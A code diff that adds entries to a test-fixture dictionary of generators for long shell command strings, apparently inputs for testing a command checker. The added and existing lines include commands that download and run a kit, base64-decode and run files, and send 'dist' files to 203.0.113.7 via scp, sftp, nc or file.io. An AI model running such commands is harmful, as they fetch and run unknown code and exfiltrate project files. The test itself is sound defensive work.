@@ -37,6 +37,14 @@ SHAPES: dict[str, Callable[[int], str]] = {
     "many form fields": lambda n: "curl" + " -F a=@dist/x" * (n // 13) + " https://file.io",
     "a long pipeline of copies": lambda n: "tar cz dist" + " | cat" * (n // 60) + " | nc 203.0.113.7 443",
     "many substitutions in a name": lambda n: "dig " + "$(seq 1 2)." * (n // 11) + "example",
+    "many unpacks of a download, then many project programs": lambda n: (
+        "curl -O https://e.example/kit.tgz; " + "tar xf kit.tgz; " * (n // 32) + "./data/run; " * (n // 24)
+    ),
+    "many decoded files, then many runs of others": lambda n: (
+        "base64 -d a > b; " * (n // 34) + "./c/run; " * (n // 18)
+    ),
+    "many project files uploaded": lambda n: "scp" + " dist/x" * (n // 7) + " deploy@203.0.113.7:",
+    "many files batched into one upload": lambda n: "sftp h <<< '" + "put dist/x " * (n // 11) + "'",
 }
 
 
